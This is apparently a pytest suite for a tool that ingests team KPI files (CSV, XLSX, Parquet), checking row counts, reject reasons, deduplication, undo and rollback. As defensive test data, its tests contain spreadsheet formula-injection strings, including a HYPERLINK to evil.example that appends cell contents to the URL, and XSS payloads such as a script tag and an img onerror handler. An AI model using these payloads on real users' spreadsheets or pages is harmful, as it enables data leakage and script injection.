"""Outcome KPI files (format ``outcome_kpis``): each layout lands the right rows, rejected rows
keep their reasons, counts reconcile, the same content changes nothing, a later file's value
replaces an earlier one (and undo restores it), a failed batch leaves no trace, and hostile
text is stored as plain text.

The layouts are the CSV examples in ``tests/fixtures/outcomes/``; the XLSX and Parquet files
are written from them here (into tmp_path). Expected rows are counted by hand from those files.
"""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import duckdb
import pandas as pd
import pytest

import adoption
from adoption.errors import ColumnNotFoundError, IngestError, InputError
from adoption.ingest.formats import detect_format
from adoption.ingest.removal import remove_batch
from adoption.outcomes import find_unknown_outcome_teams, load_outcomes, run_register_check

FIXTURES = Path(__file__).parent / "fixtures" / "outcomes"


@pytest.fixture
def ws(tmp_path) -> adoption.Workspace:
    """A workspace with the fixture roster (7 teams) and tools catalogue."""
    ws = adoption.init_workspace(tmp_path / "ws")
    adoption.ingest_files(ws, [FIXTURES / "roster.csv", FIXTURES / "tools.csv"])
    return ws


def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _outcomes(ws, **kw) -> pd.DataFrame:
    frame = load_outcomes(ws, **kw)
    return frame.assign(period_start=frame["period_start"].dt.strftime("%Y-%m-%d"))


def _row(frame: pd.DataFrame, team: str, start: str) -> pd.Series:
    sel = frame[(frame["team"] == team) & (frame["period_start"] == start)]
    assert len(sel) == 1, sel
    return sel.iloc[0]


# file, rows, period kind, KPI, (team, period start, value, unit, n) of one row, dates covered
LAYOUTS = [
    ("ticket_resolution_monthly.csv", 8, "month", "ticket_resolution_hours",
     ("Support EMEA", "2026-03-01", 27.9, "hours", 430), ("2026-01-01", "2026-04-30")),
    # semicolons, headers Team/Week/Metric/Value/Unit; 2026-W05 is the week of Monday 26 Jan
    ("cycle_time_weekly.csv", 6, "week", "cycle_time_days",
     ("Engineering Apps", "2026-02-02", 7.4, "days", None), ("2026-01-26", "2026-02-08")),
    ("csat_quarterly.csv", 4, "quarter", "csat",
     ("Support EMEA", "2025-10-01", 4.05, "points", 188), ("2025-10-01", "2026-03-31")),
    ("cost_per_case_daily.csv", 3, "day", "cost_per_case",
     ("Claims Processing", "2026-03-03", 17.95, "EUR", 104), ("2026-03-02", "2026-03-04")),
    # 'metric' for kpi
    ("revenue_per_fte_monthly.csv", 4, "month", "revenue_per_fte",
     ("Sales Nordics", "2026-02-01", 40110.0, "EUR", None), ("2026-01-01", "2026-02-28")),
]


@pytest.mark.parametrize(("name", "rows", "kind", "kpi", "one", "dates"), LAYOUTS,
                         ids=[x[0] for x in LAYOUTS])
def test_each_csv_layout_lands_its_rows(ws, name, rows, kind, kpi, one, dates):
    assert detect_format(FIXTURES / name).name == "outcome_kpis"
    result = adoption.ingest_file(ws, FIXTURES / name)
    assert (result.kind, result.format) == ("outcomes", "outcome_kpis")
    assert (result.rows_read, result.rows_loaded, result.rows_rejected,
            result.rows_duplicate) == (rows, rows, 0, 0)
    assert (str(result.first_date), str(result.last_date)) == dates
    got = _outcomes(ws)
    assert len(got) == rows and set(got["period_kind"]) == {kind} and set(got["kpi"]) == {kpi}
    row = _row(got, one[0], one[1])
    assert row["value"] == pytest.approx(one[2]) and row["unit"] == one[3]
    assert (pd.isna(row["n"]) if one[4] is None else row["n"] == one[4])
    assert list(got.columns) == ["team", "period_kind", "period_start", "kpi", "value",
                                 "unit", "n"]


def test_an_xlsx_layout_reads_cells_as_data_never_formulas(ws, tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    sheet = wb.active
    sheet.append(["Team", "Month", "KPI", "Value", "Unit", "N"])
    sheet.append(["Support EMEA", "2026-01", "ticket_resolution_hours", 31.5, "hours", 412])
    # a month typed into Excel becomes a date shown as 'mmm-yy': it is the month
    sheet.append(["Support EMEA", dt.datetime(2026, 2, 1), "ticket_resolution_hours", 30.2,
                  "hours", 398])
    sheet.cell(row=3, column=2).number_format = "mmm-yy"
    sheet.append(['=HYPERLINK("http://evil.example","Support EMEA")', "2026-03",
                  "ticket_resolution_hours", 27.9, "hours", 430])
    sheet.append(["Support Americas", "2026-03", "ticket_resolution_hours", "=B2*2", "hours",
                  362])
    sheet.append([None, None, None, None, None, None])  # a blank row Excel leaves: not a row
    path = tmp_path / "tickets.xlsx"
    wb.save(path)
    assert detect_format(path).name == "outcome_kpis"
    result = adoption.ingest_file(ws, path)
    # 4 data rows: 3 loaded (one with a formula as its team, kept as text), 1 rejected
    assert (result.rows_read, result.rows_loaded, result.rows_rejected) == (4, 3, 1)
    got = _outcomes(ws)
    assert list(got.sort_values(["period_start"])["period_start"]) == [
        "2026-01-01", "2026-02-01", "2026-03-01"]
    assert '=HYPERLINK("http://evil.example","Support EMEA")' in set(got["team"])
    with ws.store(read_only=True) as store:
        (reason,) = store.con.execute("SELECT reason FROM rejects WHERE batch_id = ?",
                                      [result.batch_id]).fetchone()
    assert reason.startswith("column Value: value '=B2*2' is a formula")


def test_a_parquet_layout_with_typed_columns(ws, tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({
        "team": ["Claims Processing", "Claims Processing", "Support EMEA"],
        "date": pa.array([dt.date(2026, 3, 2), dt.date(2026, 3, 3), dt.date(2026, 3, 2)]),
        "metric": ["cost_per_case"] * 3,
        "value": [18.4, float("nan"), 21.25],
        "unit": ["EUR"] * 3,
        "n": pa.array([96, 104, 12], pa.int64()),
    })
    path = tmp_path / "cost.parquet"
    pq.write_table(table, path)
    assert detect_format(path).name == "outcome_kpis"
    result = adoption.ingest_file(ws, path)
    assert (result.rows_read, result.rows_loaded, result.rows_rejected) == (3, 2, 1)  # NaN
    got = _outcomes(ws)
    assert _row(got, "Support EMEA", "2026-03-02")["value"] == 21.25
    assert set(got["period_kind"]) == {"day"} and got["n"].tolist() == [96, 12]


def test_every_rejected_row_keeps_its_reason_and_counts_reconcile(ws):
    adoption.ingest_file(ws, FIXTURES / "ticket_resolution_monthly.csv")  # stores 'hours'
    result = adoption.ingest_file(ws, FIXTURES / "rejects_kpis.csv")
    # rejects_kpis.csv: 9 rows, only the last is good
    assert (result.rows_read, result.rows_loaded, result.rows_rejected,
            result.rows_duplicate) == (9, 1, 8, 0)
    with ws.store(read_only=True) as store:
        reasons = dict(store.con.execute(
            "SELECT row_number, reason FROM rejects WHERE batch_id = ? ORDER BY 1",
            [result.batch_id]).fetchall())
        log = store.query("SELECT rows_read, rows_loaded, rows_rejected, rows_duplicate "
                          "FROM ingest_log WHERE kind = 'outcomes'")
        raw = store.scalar("SELECT raw FROM rejects WHERE batch_id = ? AND row_number = 1",
                           [result.batch_id])
    expected = {
        1: "column value: value 'abc' is not a number",
        2: "column value: value 'NaN' is not a finite number",
        3: "column value: value 'inf' is not a finite number",
        4: "column team: the team is empty",
        5: "column kpi: the KPI name is empty",
        6: "column period: value 'May 2026' is not a period",
        7: "column n: value '-3' is negative",
        8: "column unit: unit 'minutes' differs from the unit 'hours' of KPI "
           "'ticket_resolution_hours' (already stored for it)",
    }
    assert set(reasons) == set(expected)
    for row, words in expected.items():
        assert reasons[row].startswith(words), (row, reasons[row])
    assert '"value": "abc"' in raw  # the row as the file has it
    assert (log["rows_read"] == log["rows_loaded"] + log["rows_rejected"]
            + log["rows_duplicate"]).all()


def test_more_rejects_bad_dates_fractional_n_and_units_within_one_file(ws, tmp_path):
    path = _write(tmp_path, "more.csv",
                  "team,date,kpi,value,unit,n\n"
                  "Support EMEA,2026-02-30,cost_per_case,10,EUR,1\n"
                  "Support EMEA,,cost_per_case,10,EUR,1\n"
                  "Support EMEA,2026-03-01,cost_per_case,10,EUR,2.5\n"
                  "Support EMEA,2026-03-02,cost_per_case,10,eur,3\n"
                  "Support EMEA,2026-03-03,cost_per_case,11,USD,3\n"
                  "Support EMEA,2026-03-04,cost_per_case,12,,3\n")
    result = adoption.ingest_file(ws, path)
    assert (result.rows_read, result.rows_loaded, result.rows_rejected) == (6, 2, 4)
    with ws.store(read_only=True) as store:
        reasons = dict(store.con.execute("SELECT row_number, reason FROM rejects").fetchall())
    assert reasons[1].startswith("column date: value '2026-02-30' is not a date")
    assert reasons[2] == "column date: the period is empty"
    assert reasons[3].startswith("column n: value '2.5' is not a whole number")
    # the first unit of the KPI in the file is 'eur' (row 4; case does not matter)
    assert reasons[5].startswith("column unit: unit 'USD' differs from the unit 'eur' of KPI "
                                 "'cost_per_case' (given for it in row 4)")


def test_missing_columns_refuse_the_file_naming_the_accepted_spellings(ws, tmp_path):
    path = _write(tmp_path, "nokpi.csv", "team,period,kpi,amount_eur\nA,2026-01,x,1\n")
    assert detect_format(path) is None  # not claimed: it is not an outcome file
    with pytest.raises(ColumnNotFoundError, match=r"needs column\(s\) 'value' \(accepted"):
        adoption.ingest_file(ws, path, source_format="outcome_kpis")


def test_reingesting_changes_nothing_and_same_rows_in_another_file_are_duplicates(ws,
                                                                                 tmp_path):
    first = adoption.ingest_file(ws, FIXTURES / "csat_quarterly.csv")
    with ws.store() as store:
        before = store.fingerprint()
    again = adoption.ingest_file(ws, FIXTURES / "csat_quarterly.csv")
    with ws.store() as store:
        assert store.fingerprint() == before
    assert again.already_ingested and again.batch_id == first.batch_id
    # the same rows, reordered and with a repeated row, in a file of other content
    lines = (FIXTURES / "csat_quarterly.csv").read_text(encoding="utf-8").splitlines()
    copy = _write(tmp_path, "csat_copy.csv", "\n".join([lines[0], *lines[:0:-1], lines[1]]))
    result = adoption.ingest_file(ws, copy)
    # 5 rows: 4 already stored + 1 repeated in the file = 5 duplicates
    assert (result.rows_read, result.rows_loaded, result.rows_duplicate) == (5, 0, 5)
    with ws.store() as store:
        after = store.fingerprint()
    assert after["outcomes"] == before["outcomes"]


def test_a_later_file_replaces_a_value_and_undo_restores_it(ws, tmp_path):
    adoption.ingest_file(ws, FIXTURES / "ticket_resolution_monthly.csv")
    with ws.store() as store:
        before = store.fingerprint()["outcomes"]
    fix = _write(tmp_path, "april_fixed.csv",
                 "team,period,kpi,value,unit,n\n"
                 "Support EMEA,2026-04,ticket_resolution_hours,25.0,hours,405\n"
                 "Support EMEA,2026-05,ticket_resolution_hours,24.1,hours,399\n")
    result = adoption.ingest_file(ws, fix)
    assert (result.rows_loaded, result.rows_duplicate) == (2, 0)
    assert "1 value(s) replace those stored by earlier files" in result.note
    got = _outcomes(ws)
    assert len(got) == 9  # 8 + May; April replaced, not added
    assert _row(got, "Support EMEA", "2026-04-01")["value"] == 25.0  # was 26.4
    with ws.store() as store:
        remove_batch(store, result.batch_id)
        assert store.fingerprint()["outcomes"] == before
    assert _row(_outcomes(ws), "Support EMEA", "2026-04-01")["value"] == 26.4


def test_two_values_for_one_key_in_a_file_the_later_counts(ws, tmp_path):
    path = _write(tmp_path, "twice.csv",
                  "team,period,kpi,value,unit\n"
                  "Support EMEA,2026-01,csat,4.0,points\n"
                  "Support EMEA,2026-01,csat,4.2,points\n"
                  "Support EMEA,2026-01,csat,4.2,points\n")
    result = adoption.ingest_file(ws, path)
    # row 1 differs from the last row: rejected; row 2 repeats it: a duplicate
    assert (result.rows_read, result.rows_loaded, result.rows_rejected,
            result.rows_duplicate) == (3, 1, 1, 1)
    assert _outcomes(ws)["value"].tolist() == [4.2]
    with ws.store(read_only=True) as store:
        reason = store.scalar("SELECT reason FROM rejects WHERE row_number = 1")
    assert reason.startswith("row 3 of this file gives another value for team 'Support EMEA'")


def test_a_failed_batch_leaves_no_trace(ws, tmp_path, monkeypatch):
    adoption.ingest_file(ws, FIXTURES / "ticket_resolution_monthly.csv")
    with ws.store() as store:
        before = store.fingerprint()
    archived = sorted(p.name for p in ws.archive_dir.rglob("*") if p.is_file())
    fix = _write(tmp_path, "fix.csv", "team,period,kpi,value,unit\n"
                                      "Support EMEA,2026-04,ticket_resolution_hours,25,hours\n")

    def broken(self, table, frame):  # the insert fails after the replaced row was deleted
        raise duckdb.IOException("disk full")

    monkeypatch.setattr("adoption.ingest.formats.FormatContext.insert_frame", broken)
    with pytest.raises(IngestError, match="nothing of it was stored"):
        adoption.ingest_file(ws, fix)
    with ws.store() as store:
        assert store.fingerprint() == before
    assert sorted(p.name for p in ws.archive_dir.rglob("*") if p.is_file()) == archived


def test_hostile_text_is_stored_as_plain_text(ws, tmp_path):
    team = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    kpi = "<script>alert(1)</script>"
    path = _write(tmp_path, "hostile.csv",
                  "team,period,kpi,value,unit\n"
                  f'"{team.replace(chr(34), chr(34) * 2)}",2026-01,{kpi},1.5,<b>h</b>\n'
                  "Support EMEA,2026-01,csat,=1+1,points\n"
                  "Support EMEA,2026-02,csat,<img src=x onerror=alert(2)>,points\n")
    result = adoption.ingest_file(ws, path)
    assert (result.rows_loaded, result.rows_rejected) == (1, 2)
    row = load_outcomes(ws).iloc[0]
    assert (row["team"], row["kpi"], row["unit"]) == (team, kpi, "<b>h</b>")
    with ws.store(read_only=True) as store:
        reasons = [r[0] for r in store.con.execute(
            "SELECT reason FROM rejects ORDER BY row_number").fetchall()]
    assert reasons[0].startswith("column value: value '=1+1' is a formula")
    assert "'<img src=x onerror=alert(2)>' is not a number" in reasons[1]


def test_a_team_the_roster_lacks_is_kept_and_reported_by_the_check(ws):
    adoption.ingest_file(ws, FIXTURES / "cost_per_case_daily.csv")
    assert set(load_outcomes(ws)["team"]) == {"Claims Processing"}  # kept
    assert find_unknown_outcome_teams(ws) == ["Claims Processing"]
    shutil.copy(FIXTURES / "usecases.yaml", ws.root / "usecases.yaml")
    result = run_register_check(ws)
    assert result.ok  # not a problem of the register: the roster may come later
    assert ("outcome data of team(s) the roster does not have (kept): Claims Processing"
            in result.notes)


def test_load_outcomes_filters_and_refuses_unknown_names(ws):
    for name in ("csat_quarterly.csv", "cycle_time_weekly.csv"):
        adoption.ingest_file(ws, FIXTURES / name)
    assert len(load_outcomes(ws, kpi="csat")) == 4  # csat_quarterly.csv's rows
    assert len(load_outcomes(ws, period_kind="week")) == 6  # cycle_time_weekly.csv's rows
    assert load_outcomes(ws, kpi="csat", period_kind="week").empty
    with pytest.raises(InputError, match="did you mean 'csat'"):
        load_outcomes(ws, kpi="cast")
    with pytest.raises(InputError, match="period_kind 'year' is unknown"):
        load_outcomes(ws, period_kind="year")
    frame = load_outcomes(ws)
    assert str(frame["period_start"].dtype).startswith("datetime64")
    assert str(frame["n"].dtype) == "Int64" and frame["value"].dtype == "float64"


def test_the_sniffer_claims_kpi_tables_only(tmp_path):
    # the layout the portfolio's demo writes (adoption.demo.outcomes): claimed
    demo = _write(tmp_path, "team_kpis.csv", "team,period,kpi,value,unit,n\n"
                                             "Customer Success,2025-01,x,31.2,hours,140\n")
    assert detect_format(demo).name == "outcome_kpis"
    # people's rows with a KPI-like header are not team KPIs
    people = _write(tmp_path, "people.csv", "email,team,period,metric,value\n"
                                            "a@example.com,A,2026-01,x,1\n")
    assert detect_format(people) is None
